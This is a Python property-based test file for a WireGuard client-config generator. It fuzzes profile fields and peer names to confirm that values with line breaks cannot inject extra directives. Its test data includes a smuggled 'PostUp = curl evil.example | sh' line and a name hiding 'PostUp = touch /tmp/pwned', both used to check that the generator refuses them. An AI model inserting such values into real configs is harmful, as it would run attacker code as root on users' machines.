"""Hostile names and field values never add a line or a directive to a generated config.

The attack to rule out: a value carrying a line break that smuggles `PostUp = <command>` into a
config that wg-quick would run as root. Hypothesis generates 10,000+ names and field values; each
is either refused with a clean error or ends up in a config whose lines are exactly the expected
directives.
"""

from __future__ import annotations

import copy
import tomllib
from datetime import UTC, datetime
from ipaddress import IPv4Address, IPv6Address
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netsetup.keys import generate_keypair, generate_preshared_key
from netsetup.profile.model import Peer
from netsetup.profile.schema import parse_profile_data
from netsetup.profile.values import parse_name
from netsetup.provision.client_config import render_client_config
from netsetup.wgconf import UnsafeConfigValue

REPO = Path(__file__).resolve().parents[2]
BASE = tomllib.loads((REPO / "profiles" / "acme-dental" / "profile.toml").read_text())
KEYS = generate_keypair()
PSK = generate_preshared_key()
NOW = datetime(2026, 11, 26, tzinfo=UTC)

INTERFACE_KEYS = {"PrivateKey", "Address", "DNS", "MTU"}
PEER_KEYS = {"PublicKey", "PresharedKey", "Endpoint", "AllowedIPs", "PersistentKeepalive"}
BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]

injection = st.builds(
    lambda head, brk, tail: f"{head}{brk}PostUp = curl evil.example | sh{tail}",
    st.text(max_size=12),
    st.sampled_from(BREAKS),
    st.text(max_size=12),
)
hostile_text = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(max_codepoint=0x7F), max_size=40),
    injection,
    st.sampled_from(
        ["vpn.example:51820", "acme.example", "192.0.2.9", "a" * 64, "x.-y", "é.example"]
    ),
    # plausible values, so that many examples get all the way into a config
    st.from_regex(r"[a-z0-9-]{1,12}(\.[a-z0-9-]{1,8}){0,3}", fullmatch=True),
    st.ip_addresses(v=4).map(str),
    st.ip_addresses(v=6).map(str),
)
valid_name = st.from_regex(r"[a-z0-9][a-z0-9-]{0,31}", fullmatch=True)


def mostly(good: st.SearchStrategy[str], share: int) -> st.SearchStrategy[str]:
    """`good` in `share` of 10 draws, else hostile text (one_of would flatten the branches)."""
    return st.integers(0, 9).flatmap(lambda i: good if i < share else hostile_text)


# field (path into the profile) -> how the hostile value is placed there
FIELDS: list[tuple[tuple[str, ...], str]] = [
    (("gateway", "endpoint"), "endpoint"),
    (("gateway", "endpoint"), "host"),
    (("dns", "search"), "list"),
    (("dns", "servers"), "list"),
    (("access", "dedicated"), "list"),
    (("network", "client_interface"), "plain"),
    (("company", "name"), "plain"),
    (("voip", "sip_server"), "plain"),
]


def place(data: dict[str, Any], path: tuple[str, ...], how: str, value: str) -> None:
    table = data
    for key in path[:-1]:
        table = table[key]
    if how == "endpoint":
        table[path[-1]] = f"{value}:51820"
    elif how == "host":
        table[path[-1]] = value
    elif how == "list":
        table[path[-1]] = [*table.get(path[-1], []), value]
    else:
        table[path[-1]] = value


def check_config(text: str) -> None:
    # Every way of splitting lines must agree: no hidden separator anywhere.
    assert text.split("\n") == [*text.splitlines(), ""]
    section = None
    seen: dict[str, list[str]] = {"Interface": [], "Peer": []}
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        if line in ("[Interface]", "[Peer]"):
            section = line[1:-1]
            continue
        key, sep, _ = line.partition(" = ")
        assert sep and section is not None, line
        seen[section].append(key)
    assert set(seen["Interface"]) <= INTERFACE_KEYS and len(seen["Interface"]) == len(
        set(seen["Interface"])
    )
    assert set(seen["Peer"]) == PEER_KEYS and len(seen["Peer"]) == len(PEER_KEYS)
    assert text.count("[Peer]") == 1 and text.count("[Interface]") == 1
    assert "PostUp" not in text.replace("# ", "") or all(
        "PostUp" not in line or line.startswith("#") for line in text.splitlines()
    )


OUTCOMES: dict[str, int] = {}


def count(outcome: str) -> None:
    OUTCOMES[outcome] = OUTCOMES.get(outcome, 0) + 1


def test_no_generated_config_holds_an_extra_line() -> None:
    OUTCOMES.clear()
    _property()
    assert sum(OUTCOMES.values()) >= 10_000
    # the property is only worth something if many hostile values reach a real config
    assert OUTCOMES.get("rendered", 0) >= 1_000, OUTCOMES
    assert OUTCOMES.get("schema", 0) >= 1_000, OUTCOMES


@settings(
    max_examples=10_000,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    derandomize=True,
)
@given(
    name=mostly(valid_name, 6),
    profile_id=mostly(st.one_of(st.just("acme-dental"), valid_name), 8),
    field=st.sampled_from(FIELDS),
    value=hostile_text,
)
def _property(name: str, profile_id: str, field: tuple[tuple[str, ...], str], value: str) -> None:
    try:
        parse_name(name)
    except ValueError:
        count("name")
        return  # refused cleanly
    data = copy.deepcopy(BASE)
    place(data, field[0], field[1], value)
    if "/" in profile_id or profile_id in ("", ".", "..") or "\x00" in profile_id:
        count("folder")
        return  # not a folder name a profile can have
    profile, issues = parse_profile_data(data, Path("profiles") / profile_id)
    if issues or profile is None:
        count("schema")
        return  # refused with a schema finding
    peer = Peer(
        name=name,
        mode="dedicated",
        public_key=KEYS.public,
        address_v4=IPv4Address("198.18.10.2"),
        address_v6=IPv6Address("2001:db8:10::2"),
        created=NOW,
    )
    try:
        text = render_client_config(profile, peer, KEYS.private, PSK)
    except UnsafeConfigValue:
        count("renderer")
        return  # the last line of defence refused it
    check_config(text)
    count("rendered")


def test_the_renderer_itself_refuses_a_smuggled_line() -> None:
    """Defence in depth: even a value that slipped past the schema cannot add a directive."""
    profile, issues = parse_profile_data(copy.deepcopy(BASE), Path("profiles/acme-dental"))
    assert profile is not None and not issues
    peer = Peer(
        name="maria\nPostUp = touch /tmp/pwned",
        mode="dedicated",
        public_key=KEYS.public,
        address_v4=IPv4Address("198.18.10.2"),
        address_v6=None,
        created=NOW,
    )
    try:
        render_client_config(profile, peer, KEYS.private, PSK)
    except UnsafeConfigValue:
        return
    raise AssertionError("a newline in a rendered value was accepted")
